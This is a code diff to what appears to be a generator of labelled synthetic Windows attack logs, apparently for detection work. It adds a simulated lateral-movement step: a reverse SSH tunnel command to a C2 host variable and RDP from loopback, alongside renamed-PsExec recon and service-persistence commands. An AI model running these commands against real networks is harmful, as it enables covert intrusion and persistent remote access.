@@ -117,8 +117,8 @@ func (g *gen) lookalikes(day time.Time) {
 // lateral: from the RMM session on the file server the attacker moves on
 // with the provider's admin account — a renamed PsExec to the ERP
 // server, wmiexec to the second domain controller, atexec to the backup
-// server — and leaves a service on the file server that runs an encoded
-// PowerShell payload.
+// server —, leaves a service on the file server that runs an encoded
+// PowerShell payload, and comes back over RDP through a reverse tunnel.
 func (g *gen) lateral(s *session) {
 	co, src := g.co, s.h
 	op := co.ops[0] // ct-admin-mueller, the session's technician
@@ -134,12 +134,13 @@ func (g *gen) lateral(s *session) {
 	}
 	svcName := []string{"SvcHelper", "WinUpdHelper", "MsDiagSvc", "PerfHostSvc"}[g.r.IntN(4)]
 	bin := strings.ToLower(svcName) + ".exe"
+	var who principal
 	// 1. Renamed PsExec to ERP01.
 	erp := co.host("ERP01")
 	cmd := `C:\Windows\Temp\` + bin + ` \\ERP01 -accepteula -s -r ` + strings.ToLower(svcName) + ` cmd /c "whoami /all & ipconfig /all & net localgroup administrators"`
 	lbl(src, "lateral_command", "rmmsessions", "remote execution tool run from the RMM session", g.rmmCommand(src, t, s, cmd, false)...)
 	t = t.Add(3 * time.Second)
-	who := op.acct.as(erp.logonID(g.r))
+	who = op.acct.as(erp.logonID(g.r))
 	g.logon4624(erp, t, who, 3, src.ip, src.name)
 	lbl(erp, "lateral_service", "persistence", "service binary copied to ADMIN$", g.share5145(erp, t.Add(time.Second), who, src.ip, `\\*\ADMIN$`, `\??\C:\Windows`, bin))
 	lbl(erp, "lateral_service", "persistence", "PsExec-style service "+svcName, g.service7045(erp, t.Add(2*time.Second), svcName, `%SystemRoot%\`+bin, "LocalSystem"))
@@ -197,7 +198,22 @@ func (g *gen) lateral(s *session) {
 	lbl(src, "lateral_command", "rmmsessions", "service created from the RMM session",
 		g.rmmCommand(src, t, s, `sc.exe create `+pname+` binPath= "`+img+`" start= auto`, false)...)
 	lbl(src, "persistence_service", "persistence", "service running an encoded PowerShell payload", g.service7045(src, t.Add(3*time.Second), pname, img, "LocalSystem"))
-	g.sessEnd[s] = t.Add(time.Duration(1+g.r.IntN(3)) * time.Minute)
+
+	// 5. A reverse tunnel, and RDP to the file server through it: the
+	// logon arrives from the loopback address.
+	t = t.Add(time.Duration(60+g.r.IntN(60)) * time.Second)
+	lbl(src, "lateral_command", "rmmsessions", "tunnel started from the RMM session",
+		g.rmmCommand(src, t, s, `C:\ProgramData\ssh\svcssh.exe -N -R 33890:127.0.0.1:3389 tunnel@`+c2IP+` -p 443`, false)...)
+	t = t.Add(time.Duration(30+g.r.IntN(60)) * time.Second)
+	who = op.acct.as(src.logonID(g.r))
+	lbl(src, "rdp_tunnel", "lateral", "RDP from loopback", g.rdp1149(src, t, op.acct.name, "127.0.0.1"))
+	lbl(src, "rdp_tunnel", "lateral", "RDP logon from loopback", g.logon4624(src, t.Add(2*time.Second), who, 10, "127.0.0.1", src.name))
+	g.special4672(src, t.Add(2*time.Second), who)
+	lbl(src, "rdp_tunnel", "lateral", "RDP session from loopback", g.lsm(src, t.Add(3*time.Second), 21, op.acct.name, "127.0.0.1", 3))
+	end := t.Add(time.Duration(4+g.r.IntN(6)) * time.Minute)
+	g.lsm(src, end, 23, op.acct.name, "", 3)
+	g.logoff4634(src, end, who, 10)
+	g.sessEnd[s] = end.Add(time.Duration(1+g.r.IntN(3)) * time.Minute)
 }
 
 // randLetters is a random lower-case word, as attack tools name tasks
